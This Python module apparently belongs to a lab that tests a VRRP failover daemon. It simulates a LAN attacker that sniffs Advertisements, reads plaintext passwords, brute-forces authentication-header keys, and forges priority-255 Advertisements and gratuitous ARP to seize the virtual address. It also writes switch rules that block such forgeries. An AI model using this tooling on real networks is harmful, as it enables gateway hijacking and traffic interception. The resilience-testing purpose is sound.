"""An attacker on the LAN: what it receives, and what it can send.

    advertisements(lab)           what the switch has passed on to it, as IP packets;
    last_advertisement(lab)       the last of them
    send(lab, packet)             a packet of his own, from scapy or in bytes
    guess(packet)                 the password behind an authentication header, by trying
    sealed(packet, key, caught)   the same packet with a right authentication header
    steal(lab, packet)            the packet every second, and the address on its own interface
    repeat(lab, packet, every=1)  only the packet
    withdraw(lab)                 no more of that
    lock_port(lab)                the switch lets nothing of the kind through any more
    repelled(lab, source)         whether the cluster stands everything he can make of it
    attack(lab, source)           the same as a sentence, for a cell

All of it happens on the host `attacker` of the lab, in namespaces that no real network reaches.
It has no password but what it has read or guessed, and it does not change its MAC address.
"""

from __future__ import annotations

import itertools
import time
from collections.abc import Iterable, Iterator
from dataclasses import dataclass
from ipaddress import IPv4Address
from typing import TYPE_CHECKING, Any

from labs.analysis.timeline import Timeline
from labs.conf import priorities
from labs.emulation.streams import SILENCE
from labs.errors import LabError
from labs.model.facts import Advert, Heard
from vrrpd import auth_header
from vrrpd.packet import AUTH_BYTES, GROUP4, PROTOCOL_AH, AuthType, parse_ipv4

if TYPE_CHECKING:
    from labs.emulation.lab import Lab

HOST = "attacker"
# What people take when they are asked for eight characters.
WORDS = ("password", "secret", "keepaliv", "vrrp", "changeme", "admin", "cluster", "test")
# An Advertisement and its way out of the switch are this close in time (s).
SAME_FRAME = 0.05
# The address of a cluster that believes a forged Advertisement has left its holder by then (s).
EFFECT = 3.0
# A cluster that was knocked over has its holder again within this time (s).
RECOVERY = 8.0


def advertisements(lab: Lab, host: str = HOST) -> list[bytes]:
    """The IP packets with Advertisements that the switch has passed on to `host`, in order."""
    facts = lab.facts()
    ears = [f for f in facts if isinstance(f, Heard) and f.host == host]
    return [
        bytes.fromhex(advert.hex)
        for advert in sorted((f for f in facts if isinstance(f, Advert)), key=lambda f: f.t)
        if any(e.source == advert.source and abs(e.t - advert.t) < SAME_FRAME for e in ears)
    ]


def last_advertisement(lab: Lab, host: str = HOST) -> bytes:
    """The last of them; LabError if there is none."""
    packets = advertisements(lab, host)
    if not packets:
        raise LabError(f"{host} has heard no Advertisement yet: lab.settle(), then try again")
    return packets[-1]


def send(lab: Lab, *packets: Any, host: str = HOST) -> None:
    """Send packets of scapy, or bytes, from `host`: IP packets, or frames that begin with Ether.

    LabError if the host cannot.
    """
    done = lab.send(host, [bytes(packet) for packet in packets])
    if done.status:
        raise LabError(f"{host} could not send that: {done.text.strip().splitlines()[-1]}")


def steal(lab: Lab, *packets: Any, address: str = "192.168.1.10", host: str = HOST) -> None:
    """Have `host` take `address`, and every second say where it is, and say `packets`."""
    withdraw(lab, address, host)
    mac = bytes.fromhex(lab.run(host, "cat /sys/class/net/eth0/address").text.replace(":", ""))
    lab.run(host, f"ip address add {address}/32 dev eth0", changes=True)
    repeat(lab, *packets, gratuitous(mac, address), every=1, host=host)


def repeat(lab: Lab, *packets: Any, every: float, host: str = HOST) -> None:
    """Have `host` send `packets` every so many seconds, until `withdraw`."""
    lab.send(host, [bytes(packet) for packet in packets], every)


def withdraw(lab: Lab, address: str = "192.168.1.10", host: str = HOST) -> None:
    """End what `steal` or `repeat` began; nothing happens if nothing was."""
    lab.run(host, f"{SILENCE}; ip address del {address}/32 dev eth0", changes=True)


def gratuitous(mac: bytes, address: str) -> bytes:
    """The frame that says to everybody: `address` is at `mac`."""
    from vrrpd.gratuitous_arp import gratuitous_arp

    return gratuitous_arp(mac, IPv4Address(address))


def with_lane(timeline: Timeline, host: str = HOST) -> Timeline:
    """The same timeline with a lane for `host` below those of the servers."""
    hosts = (*timeline.hosts, host)
    return Timeline(timeline.facts, timeline.address, hosts, start=timeline.start, end=timeline.end)


def lock_port(lab: Lab, host: str = HOST, address: str = "192.168.1.10") -> str:
    """Have the switch drop every Advertisement, and every claim to `address`, that `host` sends.

    Returns the rules, as `nft list ruleset` shows them on the switch.
    """
    socket = lab.layout.socket(host)
    port = f"nft add rule bridge lock in iifname {socket.port}"
    rules = [
        "nft add table bridge lock",
        "nft 'add chain bridge lock in { type filter hook prerouting priority 0; }'",
        f"{port} ip protocol '{{ 51, 112 }}' drop",
        f"{port} arp saddr ip {address} drop",
        "nft list ruleset",
    ]
    return lab.at_switch(socket.switch, "; ".join(rules))


# --- authentication headers ----------------------------------------------------------------------


@dataclass(frozen=True, slots=True)
class PasswordSearch:
    """What came of trying passwords: `password` is None if none of them fitted."""

    password: str | None
    tries: int
    seconds: float

    def __repr__(self) -> str:
        found = f"It is {self.password!r}" if self.password is not None else "None of them"
        return f"{found}, after {self.tries:,} passwords in {self.seconds:.2f} s"


def candidates() -> Iterator[str]:
    """The passwords that are tried: common words, then every number of one to four digits."""
    digits = "0123456789"
    numbers = ("".join(n) for size in range(1, 5) for n in itertools.product(digits, repeat=size))
    return itertools.chain(WORDS, numbers)


def guess(packet: bytes, passwords: Iterable[str] | None = None) -> PasswordSearch:
    """Try passwords on one recorded packet with an authentication header, without the network.

    LabError if the packet has none.
    """
    told = parse_ipv4(packet)
    if not told.ah:
        raise LabError("there is no authentication header in this packet: nothing to guess")
    # The work counts, not for how long others had the processor meanwhile.
    began, tries, icv = time.thread_time(), 0, told.ah[-auth_header.ICV_BYTES :]
    multicast = told.destination.is_multicast
    for password in candidates() if passwords is None else passwords:
        tries += 1
        if (
            auth_header.integrity(told.header, told.ah, told.message, _key(password), multicast)
            == icv
        ):
            return PasswordSearch(password, tries, time.thread_time() - began)
    return PasswordSearch(None, tries, time.thread_time() - began)


def sealed(packet: Any, password: str, caught: bytes) -> bytes:
    """`packet`, of scapy or in bytes, as a member of the cluster would sign it after `caught`."""
    told = parse_ipv4(bytes(packet))
    message = _authenticated(told.message, AuthType.AH)
    number = (
        auth_header.sequence_of(parse_ipv4(caught)) + 100
    )  # the cluster goes on counting meanwhile
    source, destination = IPv4Address(str(told.source)), IPv4Address(str(told.destination))
    return auth_header.seal(message, source, destination, 1, told.ttl, _key(password), number)


# --- all of it, for a check ----------------------------------------------------------------------


def passwords_read(lab: Lab, host: str = HOST) -> list[str]:
    """The passwords that were in the Advertisements `host` has received, the last one first."""
    found: dict[str, None] = {}
    for packet in reversed(advertisements(lab, host)):
        message = parse_ipv4(packet).message
        if message[0] >> 4 == 2 and message[4] == AuthType.PASS.value:
            found[message[-AUTH_BYTES:].rstrip(b"\0").decode(errors="replace")] = None
    return list(found)


def password_guessed(lab: Lab, host: str = HOST) -> str | None:
    """The password of the last authentication header that `host` received, if it is a weak one."""
    signed = [packet for packet in advertisements(lab, host) if packet[9] == PROTOCOL_AH]
    return guess(signed[-1]).password if signed else None


def repelled(lab: Lab, source: str, host: str = HOST) -> bool:
    """Whether the holder stays the same, whatever `host` says in the name of `source`.

    Waits for the cluster to have one holder first; LabError if it gets none.
    """
    return _repelled(lab, _settled_holder(lab), source, host)


def _repelled(lab: Lab, holder: str, source: str, host: str) -> bool:
    send(lab, *forgeries(lab, source, host), host=host)
    try:
        lab.wait_until(
            lambda: _holders(lab) != [holder],
            EFFECT,
            what=f"a takeover from {holder} by a forged advertisement",
        )
    except LabError:
        return True
    return False


@dataclass(frozen=True, slots=True)
class Attack:
    """Whether `holder` kept the address while `host` sent packets in the name of `source`."""

    host: str
    source: str
    holder: str
    kept: bool

    def __repr__(self) -> str:
        end = "keeps the address" if self.kept else "gave the address up"
        return f"{self.host} sent as {self.source}: {self.holder} {end}"


def attack(lab: Lab, source: str, host: str = HOST) -> Attack:
    """Send everything that `host` can make, in the name of `source`; what came of it.

    LabError if no server holds the address.
    """
    holder = _settled_holder(lab)
    return Attack(host, source, holder, _repelled(lab, holder, source, host))


def forgeries(lab: Lab, source: str, host: str = HOST) -> list[bytes]:
    """Advertisements of priority 255 in the name of `source`, with all that `host` knows.

    To the group and to each server, without a password, with each that was read, and signed with
    the one that was guessed.
    """
    from scapy.layers.inet import IP
    from scapy.layers.vrrp import VRRP

    known = [b"", *(password.encode() for password in passwords_read(lab, host))]
    signed = [packet for packet in advertisements(lab, host) if packet[9] == PROTOCOL_AH]
    key = guess(signed[-1]).password if signed else None
    made = []
    for target in (str(GROUP4), "192.168.1.11", "192.168.1.12"):
        base = IP(src=source, dst=target, ttl=255) / VRRP(
            vrid=51, priority=255, adv=1, addrlist=["192.168.1.10"]
        )
        made += [_with(base, AuthType.PASS if word else AuthType.NONE, word) for word in known]
        if key is not None:
            made.append(sealed(base, key, signed[-1]))
    return made


# --- insides -------------------------------------------------------------------------------------


def _holders(lab: Lab) -> list[str]:
    """The servers that hold the address; an attacker does not count."""
    return [host for host in lab.holders() if host in lab.daemons]


def _settled_holder(lab: Lab) -> str:
    """The one server that holds the address, once no other is about to preempt it.

    After an attack or a reload the server of the lower priority may hold it for a moment.  If it
    keeps it (`nopreempt`), it is the holder all the same.
    """
    running = [host for host in lab.daemons if lab.running(host)]
    priority = {host: max(priorities(lab.conf(host), host).values(), default=0) for host in running}
    best = max(priority.values(), default=0)

    def alone() -> str | None:
        holders = _holders(lab)
        return holders[0] if len(holders) == 1 else None

    def settled() -> str | None:
        holder = alone()
        return holder if holder is not None and priority.get(holder, 0) == best else None

    try:
        what = "the address to be with the server of the highest priority"
        return lab.wait_until(settled, RECOVERY, what=what) or ""
    except LabError:
        return lab.wait_until(alone, RECOVERY, what="one server to hold the address") or ""


def _key(password: str) -> bytes:
    return password.encode()[:AUTH_BYTES].ljust(AUTH_BYTES, b"\0")


def _authenticated(message: bytes, kind: AuthType, password: bytes = b"") -> bytes:
    """A version 2 message with this authentication, and the checksum that goes with it."""
    from vrrpd.packet import checksum

    body = message[:4] + bytes([kind.value]) + message[5:6] + b"\0\0" + message[8:-AUTH_BYTES]
    body += password[:AUTH_BYTES].ljust(AUTH_BYTES, b"\0")
    return body[:6] + checksum(body).to_bytes(2, "big") + body[8:]


def _with(packet: Any, kind: AuthType, password: bytes) -> bytes:
    """The IP packet with another authentication inside; its length stays."""
    whole = bytes(packet)
    message = parse_ipv4(whole).message
    return whole[: -len(message)] + _authenticated(message, kind, password)
